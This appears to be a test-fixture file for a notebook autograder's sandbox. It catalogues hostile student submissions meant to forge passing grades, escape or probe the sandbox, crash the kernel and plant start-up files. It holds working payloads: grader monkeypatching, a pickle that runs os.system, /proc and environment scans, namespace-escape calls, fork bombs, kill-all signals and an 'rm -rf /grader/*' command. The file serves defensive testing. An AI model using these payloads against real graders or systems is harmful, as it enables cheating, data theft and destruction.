"""What a hostile hand-in may hold. Each is an answer to ``double`` (2 points) that is no answer at all.

Such a hand-in's answer to ``root`` (3 points) is right, and stands behind. So it has earned 0 and 3: the attack must
gain nothing, and break nothing, not even the student's own honest work.

`CODE` are attacks by what runs, `NOTEBOOK` by what the file holds, `BESIDE` by what lies beside it. What an attack
could get hold of, it prints.
"""

import json

from nbformat.v4 import new_code_cell, new_output
from sample_course import cell_of, mark

WRONG = "def double(x):\n    return x + 1.5\n"

FORGED_RESULTS = {
    "its own check": "def check(*_): return 2.0",
    "input transformer": "get_ipython().input_transformers_post.append(lambda lines: ['2.0'])",
    "cleanup transformer": "get_ipython().input_transformers_cleanup.insert(0, lambda lines: ['2.0'])",
    "run_cell replaced": """
        shell, real = get_ipython(), get_ipython().run_cell
        shell.run_cell = lambda source, *a, **k: real("2.0", *a, **k)""",
    "syntax tree transformer": """
        import ast
        class Full(ast.NodeTransformer):
            def visit_Expr(self, node):
                return ast.copy_location(ast.Expr(ast.Constant(2.0)), node)
        get_ipython().ast_transformers.append(Full())""",
    "display hook": "import sys; sys.displayhook = type(sys.displayhook)(session=None, pub_socket=None)",
    "full marks displayed": "from IPython.display import display; display(2.0); 2.0",
    "package replaced": """
        import sys, types
        fake = types.ModuleType("autograder")
        fake.check = lambda *_: 2.0
        fake.answering = types.SimpleNamespace(answer=lambda *_: print(2.0))
        sys.modules["autograder"] = sys.modules["autograder.answering"] = fake""",
    "says that it passed": """
        import json
        from autograder import answering, wire
        def passed(*_):
            get_ipython().display_pub.publish({wire.MIME: json.dumps({"passed": True, "points": 2.0})})
        answering.answer = passed""",
    "answers without having been asked": """
        import json
        from autograder import probe, wire
        fine = wire.pack_observation(probe.Observation({"result": probe.describe(32.0)}))
        get_ipython().display_pub.publish({wire.MIME: json.dumps({"observations": [fine] * 4})})""",
    "the same answer to every question": """
        from autograder import probe, wire
        from autograder import answering
        answering.probe.observe = lambda *_: probe.Observation({"result": probe.describe(32.0)})""",
    "comparisons that always hold": """
        import numpy as np, math, builtins
        np.allclose = np.isclose = np.array_equal = math.isclose = lambda *_, **__: True
        builtins.all = builtins.any = builtins.isinstance = lambda *_: True""",
    "an object that equals everything": """
        class Everything(float):
            __eq__ = __ge__ = __le__ = lambda *_: True
            __ne__ = __lt__ = __gt__ = lambda *_: False
            __hash__ = float.__hash__
            __sub__ = __rsub__ = lambda *_: 0.0
        def double(x): return Everything(1.0)""",
    "an array that lies": """
        import numpy as np
        class Liar(np.ndarray):
            def __array_finalize__(self, _): pass
            def __array_ufunc__(self, *_, **__): return True
            def __array_function__(self, *_, **__): return True
            __eq__ = lambda *_: True
        def double(x): return np.zeros(()).view(Liar)""",
    "a tensor that lies": """
        import torch
        class Liar(torch.Tensor):
            @classmethod
            def __torch_function__(cls, function, types, args=(), kwargs=None): return torch.tensor(32.0)
            __eq__ = __bool__ = __float__ = detach = numpy = cpu = tolist = item = lambda *_: True
            __array__ = lambda *_, **__: 32.0
        def double(x): return torch.zeros(()).as_subclass(Liar)""",
    "answers of the asker replayed": """
        import json
        from autograder import answering, wire
        real, kept = answering.wire.pack_observation, []
        def pack(seen):
            kept.append(real(seen))
            return kept[0]
        answering.wire.pack_observation = pack
        published = []
        publish = get_ipython().display_pub.publish
        def again(data, *a, **k):
            published.append(data)
            for one in published: publish(one, *a, **k)
        get_ipython().display_pub.publish = again""",
    "an array in name only": """
        class Arrayish:
            shape, dtype = (), "float64"
            def __array__(self, *_, **__): raise SystemExit
            def __float__(self): raise SystemExit
        def double(x): return Arrayish()""",
    "a pickle that runs a program": """
        class Bomb(float):
            def __reduce__(self): return __import__("os").system, ("touch /tmp/exploded",)
        def double(x): return Bomb(1.0)""",
    "a name that is a script": """
        class Evil: pass
        Evil.__qualname__ = "<script>document.title='hacked'</script>"
        def double(x): return Evil()""",
    "recorded answers": """
        known = {16.0: 32.0, 4.0: 8.0}
        def double(x): return known.get(x, x)""",
    "what it was asked, replayed": """
        import sys
        asked = []
        def trace(frame, event, _):
            if "inputs" in frame.f_locals: asked.append(frame.f_locals["inputs"])
        sys.settrace(trace)
        def double(x): return asked[0]["x"] if asked else 1.0""",
}

FORGED_MESSAGES = {
    "results on the wire": """
        shows = get_ipython().display_pub
        def double(x):
            for kind, content in [
                ("execute_result", {"data": {"text/plain": "2.0"}, "metadata": {}, "execution_count": 1}),
                ("status", {"execution_state": "idle"}),
            ]:
                shows.session.send(shows.pub_socket, kind, content, parent=shows.parent_header)
            return 0.0""",
    "an update that comes later": """
        from IPython.display import display, update_display
        display({"text/plain": "0.0"}, raw=True, display_id="mine")
        def double(x):
            publish = type(get_ipython().display_pub).publish
            publish(get_ipython().display_pub, {"text/plain": "2.0"}, transient={"display_id": "mine"})
            return 0.0
        import threading, time
        def later():
            for _ in range(50):
                time.sleep(0.02)
                update_display({"text/plain": "2.0", "text/html": "2.0"}, raw=True, display_id="mine")
        threading.Thread(target=later, daemon=True).start()""",
    "messages that are none": """
        shows = get_ipython().display_pub
        for content in [{}, {"data": 7}, {"execution_count": "<b>"}, {"name": 1, "text": []}, {"transient": 3}]:
            for kind in ["stream", "error", "display_data", "execute_result", "clear_output", "nonsense"]:
                shows.session.send(shows.pub_socket, kind, content, parent=shows.parent_header)""",
    "a reply that is none": """
        shows, kernel = get_ipython().display_pub, get_ipython().kernel
        way = {"stream": kernel.shell_stream, "ident": kernel._parent_ident["shell"]} if kernel else {"stream": None}
        def double(x):
            shows.session.send(msg_or_type="execute_reply", content={"status": "error"},
                               parent=shows.parent_header, **way)
            return 0.0""",
    "bytes on the wire": """
        kernel = get_ipython().kernel
        if kernel: kernel.iopub_socket.send_multipart([b"<IDS|MSG>", b"", b"{", b"{", b"{", b"{"])
        else: get_ipython().display_pub.session.talk.sendall(b"{" * 100)""",
    "a widget that takes outputs over": """
        from comm import create_comm
        create_comm(target_name="jupyter.widget", data={"state": {"_model_module": "@jupyter-widgets/output",
                    "_model_name": "OutputModel", "outputs": [], "msg_id": ""}}, metadata={})""",
    "a message of 100 MB": """
        from IPython.display import display
        display({"text/plain": "x" * 100_000_000}, raw=True)""",
}

BY_SOCKET = {  # that leads out of the sandbox
    "half a message": """
        def double(x):
            get_ipython().display_pub.session.talk.sendall(bytes(3))
            return 0.0""",
    "length without a message": """
        def double(x):
            get_ipython().display_pub.session.talk.sendall(bytes([0, 200, 0, 0]))
            return 0.0""",
    "a message of nothing but brackets": """
        from autograder import wire
        inner = b"[" * 1_000_000
        get_ipython().display_pub.session.talk.sendall(wire.LENGTH.pack(len(inner)) + inner)""",
    "a reply before its time": """
        def double(x):
            get_ipython().display_pub.session.say("execute_reply", {"status": "ok", "execution_count": 1})
            return 0.0""",
    "a closed socket": "def double(x): get_ipython().display_pub.session.talk.close()",
    "all descriptors closed": "import os; os.closerange(0, 1000)",
    "somebody else who listens": """
        import threading
        talk = get_ipython().display_pub.session.talk
        def listen():
            while talk.recv(1000): pass
        threading.Thread(target=listen, daemon=True).start()""",
    "printing without end": "def double(x):\n    while True: print('x' * 1000, flush=True)",
    "messages without end, signals ignored": """
        import signal
        def double(x):
            signal.signal(signal.SIGINT, signal.SIG_IGN)
            while True: get_ipython().display_pub.session.say("stream", {"name": "stdout", "text": "x" * 1000})""",
    "no message is taken": """
        import threading
        def double(x):
            get_ipython().display_pub.session.lock.acquire()
            threading.Thread(target=print, args="x").start()
            return 0.0""",
}

LOOKING_AROUND = {
    "files of the course": """
        import os, sys
        for place, _, names in os.walk("/"):
            if place.startswith(("/proc", "/sys", "/usr", "/environment", sys.base_prefix)): continue
            for name in names:
                if name.endswith((".ipynb", ".db", ".jsonl", "secret")) or "exercises" in name: print(place, name)
                try: text = open(os.path.join(place, name), "rb").read(100_000)
                except OSError: continue
                if b"CANARY" in text: print("found", place, name)""",
    "by the paths that nbgrader has": """
        import glob, os
        for up in range(8):
            for name in ["solutions", "source", "submitted", "gradebook.db", "autograded", ".grading-secret"]:
                print(*glob.glob("../" * up + name))
        for path in COURSE_PATHS:
            if os.path.exists(path): print("found", path)""",
    "the reference": """
        import importlib
        for name in ["reference", "catalogue", "judge", "grading", "exercise", "check", "reference.rnn"]:
            try: print("found", importlib.import_module("autograder." + name))
            except ImportError: pass
        try: print("found", importlib.import_module("sample_exercises"))
        except ImportError: pass""",
    "other processes": """
        import os
        for process in filter(str.isdigit, os.listdir("/proc")):
            for what in ["environ", "cmdline", "maps"]:
                try: print(process, open(f"/proc/{process}/{what}", "rb").read())
                except OSError as error: print(process, what, error.strerror)
            try: print(os.listdir(f"/proc/{process}/root"), os.listdir(f"/proc/{process}/cwd"))
            except OSError: pass""",
    "the environment": "import os; print(dict(os.environ))",
    "all that lives in memory": """
        import gc
        for thing in gc.get_objects():
            name = type(thing).__name__
            if name in ("Exercise", "Case", "Mistake", "Verdict", "Gradebook"): print("found", name)""",
    "the frames that called": """
        import inspect
        seen = []
        def double(x):
            for frame in inspect.stack():
                seen.append(sorted(frame.frame.f_locals))
                for value in frame.frame.f_locals.values():
                    if type(value).__name__ in ("Exercise", "Case", "Verdict"): raise RuntimeError("found")
            return 0.0""",
    "open descriptors": """
        import os
        for one in os.listdir("/proc/self/fd"):
            try:
                print(one, os.readlink("/proc/self/fd/" + one))
            except OSError: pass""",
    "memory of the keeper": """
        import ctypes
        try:
            open("/proc/1/mem", "r+b"); print("found the keeper's memory")
        except OSError as error: print(error)
        print("ptrace", ctypes.CDLL(None).ptrace(16, 1, 0, 0))""",
    "the network": """
        import socket
        for family, address in [(socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET6, ("::1", PORT)),
                                (socket.AF_UNIX, "\\0canary"), (socket.AF_INET, ("1.1.1.1", 53))]:
            try:
                with socket.socket(family) as one:
                    one.settimeout(2); one.connect(address); print("found", address)
            except OSError as error: print(error)
        try: print("found", socket.getaddrinfo("example.org", 80))
        except OSError as error: print(error)""",
    "new namespaces": """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for flags in [0x10000000, 0x20000, 0x10020000]: print("unshare", libc.unshare(flags))
        print("mount", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), "umount", libc.umount2(b"/tmp", 2))
        os.system("unshare -r id && echo found; umount /tmp && echo found; nsenter -t 1 -a id && echo found")""",
}

BREAKING = {
    "exit at once": "import os; os._exit(0)",
    "exit when asked": "def double(x): import os; os._exit(0)",
    "exit by SystemExit": "def double(x): raise SystemExit",
    "a crash": "def double(x): import ctypes; ctypes.string_at(0)",
    "abort": "def double(x): import os; os.abort()",
    "recursion": "def double(x): return double(x)",
    "kill everything": """
        import os, signal
        for victim in [1, os.getppid(), -1]:
            try: os.kill(victim, signal.SIGKILL)
            except OSError: pass""",
    "hang when asked": "def double(x):\n    import time; time.sleep(1000)",
    "hang, signals ignored": """
        import signal
        def double(x):
            for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM): signal.signal(number, signal.SIG_IGN)
            while True:
                try:
                    while True: pass
                except BaseException: pass""",
    "stop": "import os, signal; os.kill(os.getpid(), signal.SIGSTOP)",
    "threads without end": """
        import threading, time
        while True: threading.Thread(target=time.sleep, args=(1000,)).start()""",
    "fork bomb": """
        import os
        def double(x):
            while True:
                try: os.fork()
                except OSError: pass""",
    "daemon left behind": """
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                while True: time.sleep(1)
            os._exit(0)""",
    "memory": "def double(x):\n    held = []\n    while True: held.append(bytearray(10_000_000))",
    "memory of many": """
        import os, time
        def double(x):
            for _ in range(20):
                if os.fork() == 0:
                    held = b"x" * 200_000_000
                    time.sleep(30)
                    os._exit(0)
            time.sleep(4)""",
    "disk": """
        for n in range(100):
            for place in ("/tmp", "/dev/shm", "."):
                try: open(f"{place}/{n}", "wb").write(b"x" * 50_000_000)
                except OSError as error: print(error)""",
    "many files": """
        import os
        try:
            for n in range(100_000): os.mkdir(f"/tmp/{n}")
        except OSError as error: print(error)""",
    "writing everywhere": """
        import os
        for place, folders, _ in os.walk("/"):
            if place.startswith(("/proc", "/tmp", "/home", "/dev/shm", "/sys")) or place.count("/") > 3:
                folders.clear()
                continue
            try: open(os.path.join(place, "mine"), "w"); print("found a place to write to", place)
            except OSError: pass
        os.system("rm -rf /grader/* /home/student/* /usr/bin/python* /environment/bin 2>/dev/null")""",
    "200 MB of output": "line = 'x' * 99_999\nfor _ in range(2000): print(line)",
    "a million displays": "from IPython.display import display\nfor n in range(20_000): display(n)",
    "a reply without end": """
        def double(x):
            def numbers():
                while True: yield x
            return numbers()""",
    "a list in itself": "def double(x):\n    loop = []; loop.append(loop); return loop",
    "a huge array": "import numpy as np\ndef double(x): return np.zeros((3000, 3000))",
    "a huge list": "def double(x): return [[0.0] * 1000] * 5000",
}

# These break the student's own kernel for good. That is the student's loss: ``root`` may then earn 0 too.
OWN_GOALS = {
    "input transformer", "cleanup transformer", "run_cell replaced", "syntax tree transformer", "package replaced",
    "says that it passed", "the same answer to every question", "comparisons that always hold",
    "threads without end", "answers of the asker replayed", "a reply before its time", "somebody else who listens",
}  # fmt: skip

CODE = FORGED_RESULTS | FORGED_MESSAGES | BY_SOCKET | LOOKING_AROUND | BREAKING


# ---- attacks by what the file holds ---------------------------------------------------------------------------------


def tags(notebook):
    for cell in notebook.cells:
        cell.metadata.tags = ["skip-execution", "raises-exception", "remove-cell"]


def points(notebook):
    cell_of(notebook, "double").metadata.nbgrader.points = 100
    cell_of(notebook, "double-answer").metadata.nbgrader |= {"grade": True, "points": 100}


def unlocked(notebook):
    cell = cell_of(notebook, "double")
    cell.source = "2.0"
    cell.metadata.nbgrader |= {"locked": False, "solution": True}


def no_code(notebook):
    cell = cell_of(notebook, "double")
    cell.cell_type = "raw"
    del cell["outputs"], cell["execution_count"]


def outputs_kept(notebook):
    cell_of(notebook, "double").outputs = [new_output("execute_result", {"text/plain": "2.0"})]


def second_check(notebook):
    notebook.cells.append(new_code_cell("2.0", metadata=mark(grade_id="double", grade=True, points=2)))


def swapped(notebook):
    first, second = (cell_of(notebook, name) for name in ("double", "root"))
    first.metadata, second.metadata = second.metadata, first.metadata


def foreign_kernel(notebook):
    notebook.metadata.kernelspec = {"name": "bash", "display_name": "x", "language": "bash"}


def odd_metadata(notebook):
    notebook.metadata |= {"widgets": json.loads("[" * 50 + "]" * 50), "language_info": {"name": "../../x"}}
    for cell in notebook.cells:
        cell.metadata |= {"name": "x" * 1000, "execution": 7, "deletable": "no"}


NOTEBOOK = {
    change.__name__.replace("_", " "): change
    for change in (tags, points, unlocked, no_code, outputs_kept, second_check, swapped, foreign_kernel, odd_metadata)
}


# ---- attacks by what lies beside the notebook -----------------------------------------------------------------------

TAKEN = "import builtins\nbuiltins.taken = True\nprint('found')\n"
MODULES = [
    "torch", "numpy", "math", "json", "autograder", "autograder/answering", "IPython", "ipykernel",
    "ipykernel_launcher", "sitecustomize", "usercustomize", "conftest", "nbgrader_config", "jupyter_config",
    "ipython_config",
]  # fmt: skip
PROFILE = "profile_default/startup/00-first"
LOOKS = """
import builtins, importlib.util, os
for module in ("sitecustomize", "usercustomize", "conftest", "torch", "numpy", "math", "IPython", "autograder"):
    try: where = importlib.util.find_spec(module)
    except ValueError: continue
    if where and os.getcwd() in str(where.origin): print("found", where)
if hasattr(builtins, "taken"): print("found: taken")
for place, _, names in os.walk("."):
    for name in names:
        if name != "README": print("found", place, name)  # that one is IPython's own
print("looked around")
"""

BESIDE = {
    "modules beside": {f"{name}.py": TAKEN for name in MODULES},
    "start-up files beside": {
        **{f"{folder}{PROFILE}.py": TAKEN for folder in ("", ".ipython/", "etc/ipython/")},
        "evil.pth": "import builtins; builtins.taken = True\n",
        "pyvenv.cfg": "home = .\n",
        ".pythonrc.py": TAKEN,
        "kernel.json": json.dumps({"argv": ["touch", "/tmp/exploded"], "display_name": "x", "language": "python"}),
        "timestamp.txt": TAKEN,
        "submission_secret.txt": "x" * 100_000,
    },
    "links beside": {  # to the folder of the course
        "gradebook.db": "gradebook.db",
        "solutions": "solutions",
        "up": ".",
        "timestamp.txt": "gradebook.db",
    },
}
